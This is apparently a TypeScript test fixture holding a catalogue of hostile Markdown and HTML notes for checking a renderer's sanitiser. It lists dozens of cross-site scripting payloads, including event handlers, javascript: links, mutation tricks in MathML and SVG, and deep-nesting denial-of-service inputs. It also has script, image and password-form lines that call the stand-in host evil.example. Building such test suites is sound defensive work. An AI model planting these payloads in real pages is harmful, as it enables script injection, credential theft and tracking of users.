const run = 'window.__ran=1';

/** Notes that try to run code in the reader's page. Each has its own marker. */
const hostile: Readonly<Record<string, string>> = {
  script: `<script>${run}</script>`,
  'script in a line': `text <script>${run}</script> text`,
  'script from elsewhere': '<script src="https://evil.example/x.js"></script>',
  'script in capitals, unclosed': `<SCRIPT>${run}`,
  'module preload': '<link rel="modulepreload" href="https://evil.example/x.js">',
  'image with a handler': `<img src=x onerror="${run}">`,
  'image without a blank': `<img/src=x/onerror=${run}>`,
  'image that never ends': `<img src=x onerror=${run}//`,
  'details that open': `<details open ontoggle=${run}><summary>a</summary></details>`,
  'body with a handler': `<body onload=${run}>`,
  'focus by itself': `<input autofocus onfocus=${run}><a tabindex=0 autofocus onfocus=${run}>a</a>`,
  'animation with a handler': `<b style="animation-name:x" onanimationstart=${run}>a</b>`,
  'javascript link': `[click](javascript:${run})`,
  'javascript link in disguise': `[click](java&#x73;cript:${run}) <a href="jav\tascript:${run}">a</a>`,
  'javascript link with blanks': `<a href=" &#1; javascript:${run}">a</a>`,
  'javascript link by reference': `[click]\n\n[click]: javascript:${run}`,
  'javascript autolink': `<javascript:${run}>`,
  'vbscript and data links': `[a](vbscript:x) [b](data:text/html,<script>${run}</script>)`,
  'blob and file links': '[a](blob:https://evil.example/1) [b](file:///etc/passwd)',
  'image of a data page': `![a](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)`,
  'image from elsewhere': '![a](https://evil.example/track.png) ![b](//evil.example/track.png)',
  'image set from elsewhere':
    '<img srcset="https://evil.example/a.png 1x" src="dot.png"><picture><source srcset="https://evil.example/b.png"></picture>',
  'link that tells': '<a href="https://ok.example/" ping="https://evil.example/ping">a</a>',
  svg: `<svg onload=${run}><script>${run}</script></svg>`,
  'svg that animates a link': `<svg><a><animate attributeName=href values=javascript:${run} /><text>a</text></a></svg>`,
  'svg that uses another':
    '<svg><use href="https://evil.example/x.svg#a"></use><image href="https://evil.example/x.png"/></svg>',
  'svg with foreign content': `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  'mathml that changes its mind': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  'mathml and svg by turns': `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
  'mathml link': `<math><maction actiontype="statusline" xlink:href="javascript:${run}">a</maction></math>`,
  'noscript that changes its mind': `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  'template and shadow': `<template shadowrootmode=open><script>${run}</script></template>`,
  'textarea that ends early': `<textarea></textarea><img src=x onerror=${run}></textarea>`,
  'title that ends early': `<title></title><img src=x onerror=${run}>`,
  'comment that ends early': `<!--><img src=x onerror=${run}>-->`,
  'section that is none': `<![CDATA[><img src=x onerror=${run}>]]>`,
  style: '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
  'style attribute': '<p style="background:url(https://evil.example/x.png);position:fixed;inset:0">a</p>',
  iframe: `<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  'object and embed': '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  'audio and video':
    '<audio src="https://evil.example/a.mp3" autoplay></audio><video poster="https://evil.example/a.png">',
  form: '<form action="https://evil.example/"><input name=password type=password><button>Sign in</button></form>',
  'form from afar':
    '<button form=x formaction="javascript:window.__ran=1">a</button><input type=image src="https://evil.example/x.png">',
  'meta refresh': '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  base: '<base href="https://evil.example/"><a href="x">a</a>',
  'names that stand in for ours':
    '<a id=root></a><img name=body><form id=location><input name=href></form><a id=__ran></a>',
  'a dialog over everything': '<dialog open>Sign in again</dialog><div popover>a</div>',
  'code with HTML in it': `\`\`\`html\n<img src=x onerror=${run}>\n\`\`\`\n\n\`<img src=x onerror=${run}>\``,
  'language with HTML in it': `\`\`\`"><img/src=x/onerror=${run}>\na\n\`\`\``,
  'wiki link with HTML in it': `[["><img src=x onerror=${run}>|<img src=x onerror=${run}>]]`,
  'wiki link to a script': `[[javascript:${run}|a]] [[../../../etc/passwd]]`,
  'alternative text that breaks out': `![" onerror="${run}](dot.png) [a](<x" onmouseover="${run}>)`,
  'title that breaks out': `[a](https://ok.example/ '" onmouseover="${run}')`,
  'front matter with HTML in it': `---\ntitle: <img src=x onerror=${run}>\n"<script>${run}</script>": x\n---\n`,
  'front matter that is a program': `---js\n{a:(${run})}\n---\n`,
  'front matter that names itself': '---\na: &a [*a, *a]\n__proto__: {x: 1}\n---\n',
  'quotes in quotes': '>'.repeat(3_000) + ' a',
  'lists in lists': Array.from({ length: 120 }, (_, n) => `${'  '.repeat(n)}- a`).join('\n'),
  'elements in elements': '<div>'.repeat(3_000) + `<img src=x onerror=${run}>`,
  'brackets in brackets': '['.repeat(3_000) + 'a' + '](x)'.repeat(500),
  'stars and underscores': '*_'.repeat(3_000),
  'control and direction marks': `a\u0000b\u202Ec\u2066d [x](java\u0000script:${run})`,
};

/** These notes would hide the text after them, or work only at the start of a note. */
const ALONE =
  /unclosed|never ends|early|is none|its mind|by turns|template|front matter|(?:quotes|lists|elements|brackets) in|stars|marks/u;
const TOGETHER = 5;

const others = Object.entries(hostile).filter(([name]) => !ALONE.test(name));

/** Notes that match ALONE are separate; the others are combined in groups of five. */
export const hostileNotes: readonly { readonly name: string; readonly text: string }[] = [
  ...Object.entries(hostile).flatMap(([name, text]) => (ALONE.test(name) ? [{ name, text }] : [])),
  ...others.flatMap((_each, index) => {
    const some = index % TOGETHER === 0 ? others.slice(index, index + TOGETHER) : [];
    return some.length === 0
      ? []
      : [{ name: some.map(([name]) => name).join(', '), text: some.map(([, text]) => text).join('\n\n') }];
  }),
];

/** An SVG and an HTML page as separate files. */
export const hostileFiles: Readonly<Record<string, string>> = {
  'evil.svg': `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="${run};parent.${run}"><script>${run}</script><image href="https://evil.example/x.png"/><rect width="40" height="40" fill="teal"/></svg>`,
  'evil.html': `<!doctype html><script>${run};parent.${run}</script><img src=x onerror=${run}><meta http-equiv=refresh content="0;url=https://evil.example/">`,
};
